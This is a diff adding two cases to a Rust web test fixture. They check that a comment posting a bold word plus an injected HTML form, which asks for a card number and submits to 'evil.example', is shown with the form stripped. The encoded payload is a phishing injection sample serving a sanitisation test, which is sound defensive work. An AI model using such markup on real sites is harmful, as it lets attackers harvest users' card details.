@@ -117,6 +117,23 @@ pub(crate) const VISITS: &[Visit] = &[
         ),
         303,
     ),
+    send(
+        "a customer comments in bold, with a form that asks for a card",
+        "customer",
+        ("POST", "/products/2/comments"),
+        (
+            FORM,
+            "text=%3Cb%3EBright%3C%2Fb%3E%3Cform+action%3D%22%2F%2Fevil.example%22%3E\
+             %3Cinput+name%3D%22card%22%3E%3C%2Fform%3E",
+        ),
+        303,
+    ),
+    get(
+        "the comment stands there in bold, without the form",
+        "customer",
+        "/products/2/comments",
+        "<p><b>Bright</b></p>",
+    ),
     get(
         "support looks up an order",
         "support",
